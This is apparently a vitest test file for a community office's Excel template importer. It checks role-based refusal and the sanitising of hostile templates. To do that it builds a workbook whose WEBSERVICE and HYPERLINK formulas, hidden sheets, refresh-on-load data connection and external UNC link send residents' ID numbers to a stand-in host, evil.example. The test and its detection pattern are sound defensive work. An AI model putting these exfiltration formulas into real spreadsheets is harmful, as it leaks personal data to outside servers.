import ExcelJS from 'exceljs'
import zlib from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
import { insertTemplate } from '../../../electron/backend/excel/excel.repo'
import { assertSafeZip } from '../../../electron/backend/excel/zip-guard'
import type { MethodArgs } from '../../../shared/contract'
import { makeId } from '../register/fixtures'
import { community } from '../returnees/helpers'
import { setupAdmin } from '../support/backend'
import type { TestBackend } from '../support/backend'
import { loginAs } from '../support/roles'
import type { Caller } from '../support/roles'
import { excelBackend, readBack } from './support'

let b: TestBackend
afterEach(async () => {
  await b?.close()
})

/** A zip written byte by byte from its parts (stored as the test needs them, deflated). */
function zip(parts: Map<string, Buffer>): Uint8Array<ArrayBuffer> {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let offset = 0
  for (const [partName, data] of parts) {
    const compressed = zlib.deflateRawSync(data)
    const name = Buffer.from(partName, 'utf8')
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(zlib.crc32(data), 14)
    local.writeUInt32LE(compressed.length, 18)
    local.writeUInt32LE(data.length, 22)
    local.writeUInt16LE(name.length, 26)
    locals.push(local, name, compressed)
    const dir = Buffer.alloc(46)
    dir.writeUInt32LE(0x02014b50, 0)
    dir.writeUInt16LE(20, 4)
    dir.writeUInt16LE(20, 6)
    dir.writeUInt16LE(8, 10)
    dir.writeUInt32LE(zlib.crc32(data), 16)
    dir.writeUInt32LE(compressed.length, 20)
    dir.writeUInt32LE(data.length, 24)
    dir.writeUInt16LE(name.length, 28)
    dir.writeUInt32LE(offset, 42)
    central.push(dir, name)
    offset += 30 + name.length + compressed.length
  }
  const dirBytes = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.size, 8)
  end.writeUInt16LE(parts.size, 10)
  end.writeUInt32LE(dirBytes.length, 12)
  end.writeUInt32LE(offset, 16)
  return new Uint8Array(Buffer.concat([...locals, dirBytes, end]))
}

function partsOf(bytes: Uint8Array): Map<string, Buffer> {
  const parts = new Map<string, Buffer>()
  assertSafeZip(Buffer.from(bytes), (name, data) => parts.set(name, Buffer.from(data)))
  return parts
}

const EXFIL = 'WEBSERVICE("http://evil.example/?id="&C3)'

/**
 * A street-office template made to carry the filled numbers away: formulas that call out, a
 * hidden and a very-hidden sheet copying the ID column, a conditional format that calls out,
 * names pointing at the hidden sheet or holding a formula, an external link, a data connection
 * and a macro project.
 */
async function hostileTemplate(): Promise<Uint8Array<ArrayBuffer>> {
  const wb = new ExcelJS.Workbook()
  const ws = wb.addWorksheet('日报')
  ws.getCell('A1').value = '××社区每日排查表'
  ws.getRow(2).values = ['序号', '姓名', '身份证号', '联系电话']
  ws.getCell('E1').value = { formula: EXFIL, result: '' }
  ws.getCell('F1').value = { formula: 'HYPERLINK("http://evil.example/?"&C3,"点击核对")', result: '点击核对' }
  ws.getCell('G1').value = { formula: 'SUM(1,2)', result: 3 }
  ws.getCell('H1').value = { text: '说明', hyperlink: 'http://evil.example/' }
  ws.getCell('A4').value = '签发人：'
  ws.addConditionalFormatting({ ref: 'C3:C100', rules: [{ type: 'expression', priority: 1, formulae: [`LEN(${EXFIL})>0`], style: {} }] })
  wb.addWorksheet('隐藏', { state: 'hidden' }).getCell('A1').value = { formula: '日报!C3', result: '' }
  wb.addWorksheet('深藏', { state: 'veryHidden' }).getCell('A1').value = { formula: 'WEBSERVICE("http://evil.example/?"&日报!C3)', result: '' }
  wb.definedNames.add("'隐藏'!$A$1", 'leak')
  const parts = partsOf(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer))
  const text = (name: string) => parts.get(name)?.toString('utf8') ?? ''
  parts.set(
    'xl/externalLinks/externalLink1.xml',
    Buffer.from(
      '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
  )
  parts.set(
    'xl/externalLinks/_rels/externalLink1.xml.rels',
    Buffer.from(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil\\share\\收集.xlsx" TargetMode="External"/></Relationships>'
    )
  )
  parts.set(
    'xl/connections.xml',
    Buffer.from(
      '<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/collect"/></connection></connections>'
    )
  )
  parts.set('xl/vbaProject.bin', Buffer.from('not really VBA, but where it would be'))
  parts.set(
    'xl/_rels/workbook.xml.rels',
    Buffer.from(
      text('xl/_rels/workbook.xml.rels').replace(
        '</Relationships>',
        '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>' +
          '<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/>' +
          '<Relationship Id="rIdX3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
      )
    )
  )
  parts.set(
    'xl/workbook.xml',
    Buffer.from(
      text('xl/workbook.xml')
        .replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
        .replace('</definedNames>', `<definedName name="exfil">${EXFIL.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</definedName></definedNames>`)
    )
  )
  return zip(parts)
}

/** Every part of an .xlsx as text, for what must not be anywhere in it. */
function allText(bytes: Uint8Array): string {
  return [...partsOf(bytes)].map(([name, data]) => `${name}\n${data.toString('utf8')}`).join('\n')
}

function expectHarmless(bytes: Uint8Array): void {
  const text = allText(bytes)
  expect(text).not.toMatch(/WEBSERVICE|HYPERLINK|evil\.example|vbaProject|externalLink|connections\.xml|state="(hidden|veryHidden)"|<f[\s>]/)
}

const register = (bytes: Uint8Array<ArrayBuffer>, name = '每日排查表', sheet = 0): MethodArgs<'excel.registerTemplate'> => ({
  name,
  list: 'residents',
  fileName: '日报.xlsx',
  bytes,
  sheet,
  headerStart: 2,
  headerEnd: 2,
  mapping: ['seq', 'name', 'idNumber', 'phone']
})

async function arrange(): Promise<{ clerk: Caller; worker: Caller }> {
  b = await excelBackend()
  const admin = await setupAdmin(b)
  const { east } = await community(b)
  const clerk = await loginAs(b, admin, 'clerk1', 'staff')
  const worker = await loginAs(b, admin, 'dongwg', 'grid_worker', [east.id])
  return { clerk, worker }
}

describe('attack: a grid worker registers or deletes report templates', () => {
  it('is refused, and the office’s template stays', async () => {
    const { clerk, worker } = await arrange()
    const bytes = await hostileTemplate()
    const t = await clerk.ok('excel.registerTemplate', register(bytes))
    for (const [method, args] of [
      ['excel.inspectTemplate', { fileName: '日报.xlsx', bytes }],
      ['excel.registerTemplate', register(bytes, '网格员的模板')],
      ['excel.deleteTemplate', { id: Number(t.id.slice('saved:'.length)) }]
    ] as const) {
      const refused = await worker.call(method, args)
      expect(refused.ok ? null : refused.error.code, method).toBe('FORBIDDEN')
    }
    expect(b.store.all<{ name: string }>('SELECT name FROM excel_templates').map((r) => r.name)).toEqual(['每日排查表'])
    // Filling it is still every exporter's: what they get is the sanitised file.
    const filled = await worker.ok('excel.fillTemplate', { templateId: t.id, filter: {} })
    expectHarmless(filled.bytes)
  })
})

describe('attack: a template that carries the filled numbers away', () => {
  it('is stored without formulas, hidden sheets, external links, connections or macros, and the clerk is told what went', async () => {
    const { clerk } = await arrange()
    const t = await clerk.ok('excel.registerTemplate', register(await hostileTemplate()))
    expect(t.removed).toEqual([
      '宏（VBA 代码）',
      '指向其他文件的外部链接',
      '数据连接和查询',
      '隐藏的工作表“隐藏”',
      '深度隐藏的工作表“深藏”',
      '3 个公式（已换成公式原来显示的值）',
      '1 个超链接（保留文字）',
      '1 条含外部调用的条件格式或数据验证',
      '1 个指向外部或隐藏工作表的名称',
      '1 个含公式的名称'
    ])
    const stored = b.store.get<{ file: Uint8Array }>('SELECT file FROM excel_templates')
    expectHarmless(stored?.file ?? new Uint8Array())
    const audit = b.store.get<{ summary: string }>("SELECT summary FROM audit_log WHERE method = 'excel.registerTemplate'")
    expect(audit?.summary).toContain('已去除：宏（VBA 代码）；指向其他文件的外部链接')

    const full = await clerk.ok('excel.fillTemplateFull', { templateId: t.id, filter: {}, reason: '街道办核对' })
    expectHarmless(full.bytes)
    const out = await readBack(full.bytes)
    expect(out.worksheets.map((ws) => ws.name)).toEqual(['日报'])
    const ws = out.worksheets[0]
    expect([ws?.getCell('B3').value, ws?.getCell('C3').value]).toEqual(['张三', makeId('19800101', '123')])
    expect([ws?.getCell('F1').value, ws?.getCell('G1').value, ws?.getCell('H1').value]).toEqual(['点击核对', 3, '说明'])
  })

  it('a template registered before this check is sanitised when it is filled', async () => {
    const { clerk } = await arrange()
    const file = await hostileTemplate()
    const id = b.store.transaction((tx) =>
      insertTemplate(
        tx,
        {
          name: '旧模板',
          list: 'residents',
          fileName: '日报.xlsx',
          file,
          sheetName: '日报',
          headerStart: 2,
          headerEnd: 2,
          headers: '[]',
          mapping: JSON.stringify(['seq', 'name', 'idNumber', 'phone']),
          by: '旧版本'
        },
        '2026-01-01T00:00:00.000Z'
      )
    )
    const full = await clerk.ok('excel.fillTemplateFull', { templateId: `saved:${id}`, filter: {}, reason: '街道办核对' })
    const text = allText(full.bytes)
    expect(text).not.toMatch(/WEBSERVICE|HYPERLINK|state="(hidden|veryHidden)"|<f[\s>]/)
    expect((await readBack(full.bytes)).worksheets.map((ws) => ws.name)).toEqual(['日报'])
  })

  it('refuses a template whose table sits on a hidden sheet, saying why; a clean template is registered as it is', async () => {
    const { clerk } = await arrange()
    const refused = await clerk.call('excel.registerTemplate', register(await hostileTemplate(), '隐藏表', 1))
    expect(refused.ok ? null : refused.error).toMatchObject({ code: 'RULE_VIOLATION', message: expect.stringContaining('工作表“隐藏”是隐藏的') })
    const wb = new ExcelJS.Workbook()
    wb.addWorksheet('日报').getRow(2).values = ['序号', '姓名', '身份证号', '联系电话']
    const clean = await clerk.ok('excel.registerTemplate', register(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer), '干净模板'))
    expect(clean.removed).toEqual([])
  })
})
